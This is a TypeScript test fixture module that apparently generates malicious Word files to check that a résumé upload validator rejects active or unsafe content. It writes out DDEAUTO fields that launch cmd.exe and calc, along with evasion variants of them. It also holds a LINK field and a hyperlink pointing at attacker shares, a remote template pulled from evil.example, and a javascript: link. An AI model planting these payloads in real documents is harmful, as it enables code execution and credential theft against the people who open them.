import { docxFrom, paragraph, RELATIONS, relationsXml, typesXml } from '../resume-files.ts';
import type { MaliciousFile } from './malicious-file.ts';

const body = paragraph('Jordan Roy, clerk');
const TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml';

const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const instruction = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
const field = (content: string) => `${char('begin')}${content}${char('end')}`;
const withFields = (...fields: string[]) => docxFrom(`${body}<w:p>${fields.join('')}</w:p>`);

const related = (type: string, target: string, mode = '') =>
  docxFrom(body, [
    {
      name: 'word/_rels/document.xml.rels',
      content: relationsXml(
        `<Relationship Id="r1" Type="${RELATIONS}/${type}" ${mode} Target="${target}"/>`,
      ),
    },
  ]);

const typed = (override: string) =>
  docxFrom(body, [
    {
      name: '[Content_Types].xml',
      content: typesXml(`${TYPE}.document.main+xml`).replace('</Types>', `${override}</Types>`),
    },
  ]);

const ACTIVE: Record<string, () => Buffer> = {
  'small-dde.docx': () => withFields(field(instruction('ddeauto c:\\\\cmd.exe "/k calc"'))),
  'dde-behind-page.docx': () =>
    withFields(field(instruction(' PAGE')), field(instruction('DDEAUTO c:\\\\cmd.exe'))),
  'dde-in-two-runs.docx': () =>
    withFields(field(instruction('DDE') + instruction('AUTO c:\\\\cmd.exe'))),
  'dde-under-another-prefix.docx': () =>
    docxFrom(
      `${body}<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:fldSimple x:instr="DDEAUTO c:\\\\cmd.exe"/></x:p>`,
    ),
  'dde-in-a-note.docx': () =>
    docxFrom(body, [
      {
        name: 'word/footnotes.xml',
        content: `<w:footnotes xmlns:w="w">${field(instruction('DDEAUTO c:\\\\cmd.exe'))}</w:footnotes>`,
      },
    ]),
  'dde-by-quote.docx': () =>
    withFields(field(field(instruction('QUOTE 68 68 69')) + instruction(' c:\\\\cmd.exe'))),
  'link-field.docx': () =>
    withFields(field(instruction('LINK Excel.Sheet "\\\\\\\\evil\\\\a.xls"'))),
  'script-link-field.docx': () => withFields(field(instruction('HYPERLINK "javascript:alert(1)"'))),
  'other-document.docx': () => related('aFChunk', 'other.rtf'),
  'object.docx': () => related('oleObject', 'media/image1.png'),
  'add-in.docx': () => related('webextension', 'webextension1.xml'),
};

const UNSAFE: Record<string, () => Buffer> = {
  'link-to-a-file.docx': () =>
    related('hyperlink', 'file:///C:/Windows/System32/cmd.exe', 'TargetMode="External"'),
  'template-under-capitals.docx': () =>
    docxFrom(body, [
      {
        name: 'word/_rels/settings.xml.RELS',
        content: relationsXml(
          `<Relationship Id="r1" Type="${RELATIONS}/attachedTemplate" TargetMode="External" Target="https://evil.example/a.dotm"/>`,
        ),
      },
    ]),
  'link-field-to-a-share.docx': () =>
    withFields(field(instruction('HYPERLINK "\\\\\\\\evil.example\\\\share"'))),
  'second-document.docx': () =>
    docxFrom(body, [
      {
        name: '_rels/.rels',
        content: relationsXml(
          `<Relationship Id="r1" Type="${RELATIONS}/officeDocument" Target="word/other.xml"/>`,
        ),
      },
    ]),
  'unread-part.docx': () =>
    typed(`<Override PartName="/word/header1.png" ContentType="${TYPE}.header+xml"/>`),
};

/** Word documents with disguised active content. */
export const ACTIVE_DOCX: Record<string, MaliciousFile> = Object.fromEntries([
  ...Object.entries(ACTIVE).map(([name, make]) => [name, { code: 'RESUME_ACTIVE_CONTENT', make }]),
  ...Object.entries(UNSAFE).map(([name, make]) => [name, { code: 'RESUME_UNSAFE', make }]),
]);
